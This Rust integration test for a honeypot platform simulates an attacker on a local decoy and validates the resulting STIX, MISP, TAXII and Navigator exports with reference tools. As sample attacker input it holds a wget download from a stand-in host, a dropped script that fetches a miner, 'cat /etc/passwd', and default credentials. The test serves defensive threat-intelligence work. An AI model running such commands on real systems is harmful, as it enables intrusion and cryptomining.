//! The threat-intel exports through the real pipeline and the reference tools: a real `svc decky`
//! is attacked over telnet (logins, commands) and FTP (a file dropped), a sniffer's TLS line is
//! added, `svc ingest-replay` stores it all and the profiler folds it; then every export route is
//! read and handed to OASIS's `stix2-validator` and `stix2`, CIRCL's PyMISP, and `jsonschema` with
//! the Navigator layer schema (`bin/tests/intel/check.py`; `scripts/test` installs the tools from
//! PyPI and puts them on PATH).

use svc_test_support::in_process as store;
use svc_test_support::processes as common;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::time::{Duration, Instant};

use common::{Proc, eventually, free_port, svc};
use reqwest::StatusCode;
use serde_json::Value;
use sha2::Digest;
use store::{TestApi, TestDb, user_token};
use svc::bus::Bus;
use svc::db::Role;
use svc::worker::WorkerContext;
use tokio_util::sync::CancellationToken;

const WGET: &str = "wget http://198.51.100.9/x.sh";
const JA3: &str = "771,4865-4866-4867,0-11-10-35-16,29-23-24,0";
const JA4: &str = "t13d1516h2_8daaf6152771_e5627efa2ab1";
const JARM: &str = "2ad2ad16d2ad2ad22c42d42d000000fd9c9d14e4f4f67f94f0359f8b28f532";
const HASSH: &str = "b12d2871a1189eff20364cf5333619ee";
const CERT_SHA256: &str = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
const DROPPED: &[u8] = b"#!/bin/sh\nwget http://198.51.100.9/miner -O /tmp/m\n";

fn read_until(stream: &mut TcpStream, end: &str) -> String {
    let deadline = Instant::now() + Duration::from_secs(10);
    let mut seen = Vec::new();
    let mut buf = [0u8; 1024];
    while !String::from_utf8_lossy(&seen).trim_end_matches('\0').ends_with(end) {
        assert!(Instant::now() < deadline, "no `{end}` in {:?}", String::from_utf8_lossy(&seen));
        let n = stream.read(&mut buf).unwrap();
        assert!(n > 0, "closed before `{end}`: {:?}", String::from_utf8_lossy(&seen));
        seen.extend_from_slice(&buf[..n]);
    }
    String::from_utf8_lossy(&seen).into_owned()
}

fn exchange(stream: &mut TcpStream, line: &str, code: &str) -> String {
    stream.write_all(format!("{line}\r\n").as_bytes()).unwrap();
    let reply = read_until(stream, "\r\n");
    let last = reply.lines().last().unwrap_or_default().to_string();
    assert!(last.starts_with(code), "no {code} after {line}: {reply}");
    last
}

fn wait_for(log: &Path, what: &str, count: usize) {
    let deadline = Instant::now() + Duration::from_secs(15);
    let written = || std::fs::read_to_string(log).unwrap_or_default();
    while written().matches(what).count() < count {
        assert!(Instant::now() < deadline, "no {count} × `{what}` in:\n{}", written());
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// A passive FTP upload of `bytes` as `name`, anonymously.
fn ftp_upload(port: u16, name: &str, bytes: &[u8]) {
    let mut ftp = TcpStream::connect(("127.0.0.1", port)).unwrap();
    ftp.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    read_until(&mut ftp, "\r\n");
    exchange(&mut ftp, "USER anonymous", "331");
    exchange(&mut ftp, "PASS guest@", "230");
    let pasv = exchange(&mut ftp, "PASV", "227");
    let numbers: Vec<u16> =
        pasv[pasv.find('(').unwrap() + 1..pasv.find(')').unwrap()].split(',').map(|n| n.parse().unwrap()).collect();
    let mut data = TcpStream::connect(("127.0.0.1", numbers[4] * 256 + numbers[5])).unwrap();
    exchange(&mut ftp, &format!("STOR {name}"), "150");
    data.write_all(bytes).unwrap();
    drop(data);
    let deadline = Instant::now() + Duration::from_secs(10);
    let mut replies = String::new();
    while !replies.contains("226 ") {
        assert!(Instant::now() < deadline, "no 226 after the upload: {replies}");
        replies.push_str(&read_until(&mut ftp, "\r\n"));
    }
    exchange(&mut ftp, "QUIT", "221");
}

/// The lines a real decky writes while attacked from 127.0.0.1, and a sniffer's TLS line for the
/// same address.
fn attacked_decky_lines(dir: &Path) -> String {
    let log = dir.join("decky.log");
    let ini = dir.join("fleet.ini");
    std::fs::write(&ini, "[web-01.telnet]\nusers = root:toor\n").unwrap();
    let (telnet, ftp) = (free_port(), free_port());
    let mut decky = Command::new(env!("CARGO_BIN_EXE_svc"))
        .args(["decky", "--name", "web-01", "--bind", "127.0.0.1", "--ini", ini.to_str().unwrap()])
        .args(["--services", &format!("telnet:{telnet},ftp:{ftp}")])
        .env_clear()
        .stdout(Stdio::from(std::fs::File::create(&log).unwrap()))
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    wait_for(&log, " startup ", 2);
    let mut session = TcpStream::connect(("127.0.0.1", telnet)).unwrap();
    session.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    for (user, password) in [("admin", "hunter2-not-it"), ("root", "toor")] {
        read_until(&mut session, "login: ");
        session.write_all(format!("{user}\r\n").as_bytes()).unwrap();
        read_until(&mut session, "Password: ");
        session.write_all(format!("{password}\r\n").as_bytes()).unwrap();
    }
    for command in ["uname -a", WGET, "cat /etc/passwd"] {
        read_until(&mut session, "# ");
        session.write_all(format!("{command}\r\n").as_bytes()).unwrap();
    }
    read_until(&mut session, "# ");
    session.write_all(b"exit\r\n").unwrap();
    drop(session);
    ftp_upload(ftp, "m.sh", DROPPED);
    wait_for(&log, " disconnect ", 2);
    let stop = rustix::process::Pid::from_raw(decky.id() as i32).unwrap();
    rustix::process::kill_process(stop, rustix::process::Signal::TERM).unwrap();
    assert!(decky.wait().unwrap().success());
    let now = chrono::Utc::now().to_rfc3339_opts(chrono::SecondsFormat::Micros, true);
    let tls = format!(
        "<134>1 {now} web-01 sniffer - tls_session [relay@55555 src_ip=\"127.0.0.1\" ja3=\"{JA3}\" ja4=\"{JA4}\" \
         tls_version=\"TLS 1.3\" dst_port=\"443\"]\n"
    );
    // What the prober writes of the attacker's own host.
    let prober = format!(
        "<134>1 {now} decnet-prober prober - jarm_fingerprint [relay@55555 target_ip=\"127.0.0.1\" target_port=\"8443\" \
         jarm_hash=\"{JARM}\"]\n\
         <134>1 {now} decnet-prober prober - hassh_fingerprint [relay@55555 target_ip=\"127.0.0.1\" target_port=\"22\" \
         hassh_server_hash=\"{HASSH}\" ssh_banner=\"SSH-2.0-OpenSSH_9.2p1\"]\n\
         <134>1 {now} decnet-prober prober - tls_certificate [relay@55555 target_ip=\"127.0.0.1\" target_port=\"8443\" \
         subject_cn=\"c2.test\" issuer=\"CN=c2.test\" self_signed=\"true\" cert_sha256=\"{CERT_SHA256}\"]\n"
    );
    std::fs::read_to_string(&log).unwrap() + &tls + &prober
}

/// Runs the profiler until it has folded every stored row.
async fn profile_all(config: &svc::config::Config, db: &svc::db::Db) {
    let cancel = CancellationToken::new();
    let ctx = WorkerContext::new(Arc::new(config.clone()), db.clone(), Bus::absent(), cancel.clone());
    let profiler = tokio::spawn((svc_workers::profiler::body().run)(ctx));
    let last = db.last_log_id().await.unwrap();
    eventually("the profiler catches up", || async { db.profiler_cursor().await.unwrap() >= last }).await;
    cancel.cancel();
    profiler.await.unwrap().unwrap();
}

/// `check.py ARGS`: what the reference tool made of it.
fn check(args: &[&str]) -> Value {
    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/intel/check.py");
    // Bounded: a tool that hangs fails the test instead of holding it.
    let out = Command::new("timeout").args(["120", "python3", script]).args(args).output().expect("python3 runs");
    assert!(
        out.status.success(),
        "check.py {args:?} failed (scripts/test installs the tools: ensure_intel_test_tools):\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).unwrap()
}

/// A download: status, the attachment's file name, the body.
struct Download {
    status: StatusCode,
    filename: String,
    content_type: String,
    body: String,
}

async fn download(api: &TestApi, path: &str, token: &str, query: &[(&str, &str)]) -> Download {
    let response = api.client.get(api.url(path)).query(query).bearer_auth(token).send().await.unwrap();
    let header =
        |name| response.headers().get(name).map(|v: &reqwest::header::HeaderValue| v.to_str().unwrap().to_string());
    let disposition = header(reqwest::header::CONTENT_DISPOSITION).unwrap_or_default();
    let content_type = header(reqwest::header::CONTENT_TYPE).unwrap_or_default();
    let filename = disposition.split("filename=\"").nth(1).unwrap_or_default().trim_end_matches('"').to_string();
    let status = response.status();
    Download { status, filename, content_type, body: response.text().await.unwrap() }
}

fn saved(dir: &Path, name: &str, body: &str) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, body).unwrap();
    path
}

/// A STIX bundle that the validator passes with no error and the library parses; its object types.
fn valid_stix(dir: &Path, name: &str, body: &str) -> Value {
    let path = saved(dir, name, body);
    let report = check(&["stix", path.to_str().unwrap()]);
    assert_eq!(report["valid"], true, "{name}: {report}");
    assert_eq!(report["errors"], serde_json::json!([]), "{name}: {report}");
    report
}

fn objects_of<'a>(bundle: &'a Value, kind: &str) -> Vec<&'a Value> {
    bundle["objects"].as_array().unwrap().iter().filter(|o| o["type"] == kind).collect()
}

// Several threads: the reference tools run as blocking subprocesses while the API under test
// answers the TAXII client on the runtime's other thread.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exports_of_real_attacks_pass_the_reference_tools() {
    let dir = tempfile::tempdir().unwrap();
    let lines = attacked_decky_lines(dir.path());
    let dropped_sha256 = format!("{:x}", sha2::Sha256::digest(DROPPED));
    let schema = concat!(env!("CARGO_MANIFEST_DIR"), "/../tests/data/navigator-layer-4.5.schema.json");
    for backend in TestDb::all() {
        let replayed = dir.path().join(format!("replay-{}.log", backend.name));
        std::fs::write(&replayed, &lines).unwrap();
        let mut replay = svc(dir.path(), &["ingest-replay", replayed.to_str().unwrap()]);
        replay.envs(backend.vars());
        let mut replay = Proc::spawn(replay);
        assert!(replay.wait().success(), "{}", replay.output());
        let config = backend.api_config(&[("SVC_PROFILER_POLL_MS", "20")]);
        let db = backend.open().await;
        profile_all(&config, &db).await;
        let api = TestApi::start(config).await;
        let viewer = user_token(&api.state, "watcher", Role::Viewer).await;
        let admin = user_token(&api.state, "boss", Role::Admin).await;
        let rows = api.ok("/attackers", &viewer, &[]).await;
        let row = rows["data"].as_array().unwrap().iter().find(|r| r["ip"] == "127.0.0.1").expect("the attacker");
        let uuid = row["uuid"].as_str().unwrap().to_string();
        let out = tempfile::tempdir().unwrap();

        // One attacker's bundle: valid, deterministic, with what the attack left.
        let path = format!("/attackers/{uuid}/export/stix");
        let first = download(&api, &path, &viewer, &[]).await;
        assert_eq!(first.status, StatusCode::OK, "{}", first.body);
        assert_eq!(first.filename, format!("decnet-attacker-{}.stix.json", &uuid[..8]));
        assert!(first.content_type.starts_with("application/json"));
        let report = valid_stix(out.path(), "one.stix.json", &first.body);
        for kind in
            ["identity", "ipv4-addr", "threat-actor", "attack-pattern", "process", "file", "user-account", "sighting"]
        {
            assert!(report["types"][kind].as_u64().unwrap_or(0) >= 1, "no {kind}: {report}");
        }
        let again = download(&api, &path, &viewer, &[]).await;
        assert_eq!(again.body, first.body, "the same attacker exports to the same document");
        let bundle: Value = serde_json::from_str(&first.body).unwrap();
        let actor = objects_of(&bundle, "threat-actor")[0];
        let expected_actor = format!("threat-actor--{}", python_uuid5(&uuid));
        assert_eq!(actor["id"], expected_actor.as_str(), "DECNET's id: uuid5 of the attacker's uuid");
        let extension = actor["extensions"].as_object().unwrap().values().next().unwrap();
        let fingerprints = extension["protocol_fingerprints"].to_string();
        assert!(fingerprints.contains(JA3) && fingerprints.contains(JA4), "{fingerprints}");
        let commands: Vec<&str> =
            objects_of(&bundle, "process").iter().map(|p| p["command_line"].as_str().unwrap()).collect();
        assert!(commands.contains(&WGET) && commands.contains(&"uname -a"), "{commands:?}");
        let files = objects_of(&bundle, "file");
        assert!(files.iter().any(|f| f["hashes"]["SHA-256"] == dropped_sha256.as_str()), "{files:?}");
        let patterns: Vec<&str> = objects_of(&bundle, "attack-pattern")
            .iter()
            .map(|p| p["external_references"][0]["external_id"].as_str().unwrap())
            .collect();
        for id in ["T1059.004", "T1105", "T1082", "T1087.001"] {
            assert!(patterns.contains(&id), "{id} in {patterns:?}");
        }
        let accounts = objects_of(&bundle, "user-account");
        assert!(accounts.iter().any(|a| a["account_login"] == "root"), "{accounts:?}");
        assert!(!first.body.contains("toor"), "no secret unless asked");

        // Secrets: admins only, and then the validator still passes it.
        let refused = download(&api, &path, &viewer, &[("include_secrets", "true")]).await;
        assert_eq!(refused.status, StatusCode::FORBIDDEN);
        let with_secrets = download(&api, &path, &admin, &[("include_secrets", "true")]).await;
        assert_eq!(with_secrets.status, StatusCode::OK);
        valid_stix(out.path(), "secrets.stix.json", &with_secrets.body);
        let bundle: Value = serde_json::from_str(&with_secrets.body).unwrap();
        assert!(objects_of(&bundle, "user-account").iter().any(|a| a["credential"] == "toor"));

        // The fleet's bundle, whole and windowed.
        let fleet = download(&api, "/attackers/export/stix", &viewer, &[]).await;
        assert_eq!(fleet.status, StatusCode::OK);
        assert!(
            fleet.filename.starts_with("decnet-fleet-") && fleet.filename.ends_with(".stix.json"),
            "{}",
            fleet.filename
        );
        let report = valid_stix(out.path(), "fleet.stix.json", &fleet.body);
        assert_eq!(report["types"]["threat-actor"], 1, "{report}");
        let future = download(&api, "/attackers/export/stix", &viewer, &[("since", "2999-01-01T00:00:00Z")]).await;
        let report = valid_stix(out.path(), "empty.stix.json", &future.body);
        assert!(report["types"].get("threat-actor").is_none(), "{report}");
        let past = download(&api, "/attackers/export/stix", &viewer, &[("until", "2000-01-01 00:00:00")]).await;
        assert!(!past.body.contains("threat-actor--"));

        // MISP: one event, and the fleet's collection.
        let event = download(&api, &format!("/attackers/{uuid}/export/misp"), &viewer, &[]).await;
        assert_eq!(event.filename, format!("decnet-attacker-{}.misp.json", &uuid[..8]));
        let report = check(&["misp", saved(out.path(), "one.misp.json", &event.body).to_str().unwrap()]);
        let attributes = report["events"][0]["attributes"].as_array().unwrap().clone();
        let has = |kind: &str, value: &str| attributes.iter().any(|a| a[0] == kind && a[2] == value);
        assert!(has("ip-src", "127.0.0.1") && has("sha256", &dropped_sha256), "{report}");
        assert!(has("target-user", "root") && has("text", WGET) && has("text", JA4), "{report}");
        assert!(
            has("jarm-fingerprint", JARM) && has("hassh-md5", HASSH) && has("x509-fingerprint-sha256", CERT_SHA256),
            "the prober's fingerprints: {report}"
        );
        assert!(!event.body.contains("toor"));
        let tags = report["events"][0]["tags"].to_string();
        assert!(tags.contains("Ingress Tool Transfer - T1105"), "{tags}");
        let collection = download(&api, "/attackers/export/misp", &viewer, &[]).await;
        assert!(collection.filename.ends_with(".misp.json"));
        let report = check(&["misp", saved(out.path(), "fleet.misp.json", &collection.body).to_str().unwrap()]);
        assert_eq!(report["events"].as_array().unwrap().len(), 1, "{report}");

        // DECNET's JSON export.
        let export = download(&api, "/attackers/export", &viewer, &[]).await;
        assert!(export.filename.starts_with("decnet-export-") && export.filename.ends_with(".json"));
        let export: Value = serde_json::from_str(&export.body).unwrap();
        assert_eq!(export["export_metadata"]["total_records"], 1);
        assert_eq!(export["observations"][0]["uuid"], uuid.as_str());

        // The Navigator layer validates against the layer format's schema.
        let layer = download(&api, "/ttp/export/navigator", &viewer, &[]).await;
        assert_eq!(layer.status, StatusCode::OK);
        let report = check(&["layer", saved(out.path(), "layer.json", &layer.body).to_str().unwrap(), schema]);
        assert_eq!(report["errors"], serde_json::json!([]), "{report}");
        let layer: Value = serde_json::from_str(&layer.body).unwrap();
        let scored: Vec<&str> =
            layer["techniques"].as_array().unwrap().iter().map(|t| t["techniqueID"].as_str().unwrap()).collect();
        assert!(scored.contains(&"T1105") && scored.contains(&"T1059.004"), "{scored:?}");

        // Unknown attacker, malformed uuid, malformed dates.
        let unknown = "00000000-0000-4000-8000-000000000000";
        for format in ["stix", "misp"] {
            let reply = api.get(&format!("/attackers/{unknown}/export/{format}"), Some(&viewer), &[]).await;
            assert_eq!(reply.status, StatusCode::NOT_FOUND);
            assert_eq!(reply.body["detail"], format!("unknown attacker uuid: '{unknown}'"));
            let reply = api.get(&format!("/attackers/not-a-uuid/export/{format}"), Some(&viewer), &[]).await;
            assert_eq!(reply.status, StatusCode::UNPROCESSABLE_ENTITY);
        }
        for route in ["/attackers/export", "/attackers/export/stix", "/attackers/export/misp", "/ttp/export/navigator"]
        {
            for bad in [("since", "yesterday"), ("until", "2026-13-01T00:00:00Z"), ("since", &"9".repeat(5000))] {
                let reply = api.get(route, Some(&viewer), &[bad]).await;
                assert_eq!(reply.status, StatusCode::UNPROCESSABLE_ENTITY, "{route} {bad:?}");
            }
            assert_eq!(api.get(route, None, &[]).await.status, StatusCode::UNAUTHORIZED, "{route}");
        }

        // TAXII 2.1, read by OASIS's client with HTTP Basic: discovery, API root, collection, pages.
        let root = api.base.trim_end_matches("/api/v1").to_string();
        let taxii = check(&["taxii", &format!("{root}/taxii2/"), "watcher", store::ADMIN_PASSWORD]);
        assert_eq!(taxii["can_read"], true, "{taxii}");
        let ids = taxii["ids"].to_string();
        assert!(ids.contains(&expected_actor), "{taxii}");
        let before: Value = api.ok("/attackers", &viewer, &[]).await;
        let first_added = before["data"][0]["updated_at"].as_str().unwrap().to_string();
        // A new attacker arrives; `added_after` the first one's change gets only the newcomer.
        let later = chrono::Utc::now().to_rfc3339_opts(chrono::SecondsFormat::Micros, true);
        let newcomer = format!(
            "<134>1 {later} web-01 ssh - auth_attempt [relay@55555 src_ip=\"192.0.2.77\" principal=\"pi\" \
             secret_printable=\"raspberry\"]\n"
        );
        let more = dir.path().join(format!("more-{}.log", backend.name));
        std::fs::write(&more, newcomer).unwrap();
        let mut replay = svc(dir.path(), &["ingest-replay", more.to_str().unwrap()]);
        replay.envs(backend.vars());
        let mut replay = Proc::spawn(replay);
        assert!(replay.wait().success(), "{}", replay.output());
        profile_all(&backend.api_config(&[("SVC_PROFILER_POLL_MS", "20")]), &db).await;
        let all = check(&["taxii", &format!("{root}/taxii2/"), "watcher", store::ADMIN_PASSWORD]);
        let actors = |report: &Value| -> Vec<String> {
            report["ids"]
                .as_array()
                .unwrap()
                .iter()
                .filter_map(|i| i.as_str())
                .filter(|i| i.starts_with("threat-actor--"))
                .map(str::to_string)
                .collect()
        };
        assert_eq!(actors(&all).len(), 2, "{all}");
        let newer = check(&["taxii", &format!("{root}/taxii2/"), "watcher", store::ADMIN_PASSWORD, &first_added]);
        assert_eq!(actors(&newer).len(), 1, "{newer}");
        assert!(!actors(&newer).contains(&expected_actor), "{newer}");

        // Bearer tokens too; the media type; what is refused.
        let objects = format!("{root}/taxii2/svc/collections/{}/objects/", svc::http::taxii::COLLECTION);
        let reply = api.client.get(&objects).bearer_auth(&viewer).send().await.unwrap();
        assert_eq!(reply.status(), StatusCode::OK);
        assert_eq!(reply.headers()[reqwest::header::CONTENT_TYPE], svc::http::taxii::MEDIA_TYPE);
        assert!(reply.headers().contains_key("x-taxii-date-added-last"));
        let anonymous = api.client.get(format!("{root}/taxii2/")).send().await.unwrap();
        assert_eq!(anonymous.status(), StatusCode::UNAUTHORIZED);
        let challenges: Vec<_> = anonymous.headers().get_all(reqwest::header::WWW_AUTHENTICATE).iter().collect();
        assert!(challenges.iter().any(|c| c.to_str().unwrap().starts_with("Basic")), "{challenges:?}");
        for (user, password) in [("watcher", "wrong password"), ("nobody", store::ADMIN_PASSWORD), ("watcher", "")] {
            let reply =
                api.client.get(format!("{root}/taxii2/")).basic_auth(user, Some(password)).send().await.unwrap();
            assert_eq!(reply.status(), StatusCode::UNAUTHORIZED, "{user}");
        }
        let garbage =
            api.client.get(format!("{root}/taxii2/")).header("Authorization", "Basic %%%").send().await.unwrap();
        assert_eq!(garbage.status(), StatusCode::UNAUTHORIZED);
        for query in [("added_after", "soon"), ("limit", "0"), ("next", "forged"), ("limit", "x")] {
            let reply = api.client.get(&objects).query(&[query]).bearer_auth(&viewer).send().await.unwrap();
            assert_eq!(reply.status(), StatusCode::UNPROCESSABLE_ENTITY, "{query:?}");
        }
        let other = format!("{root}/taxii2/svc/collections/{}/objects/", uuid::Uuid::new_v4());
        assert_eq!(api.client.get(&other).bearer_auth(&viewer).send().await.unwrap().status(), StatusCode::NOT_FOUND);
        api.stop().await;
    }
}

/// uuid5(DECNET's namespace, name), computed by Python's `uuid` module.
fn python_uuid5(name: &str) -> String {
    let program =
        format!("import uuid; print(uuid.uuid5(uuid.UUID('b5d2c3a1-8f4e-4d1b-9a6c-0e7f5b3d2c1a'), {name:?}))");
    let out = Command::new("python3").args(["-c", &program]).output().unwrap();
    String::from_utf8(out.stdout).unwrap().trim().to_string()
}
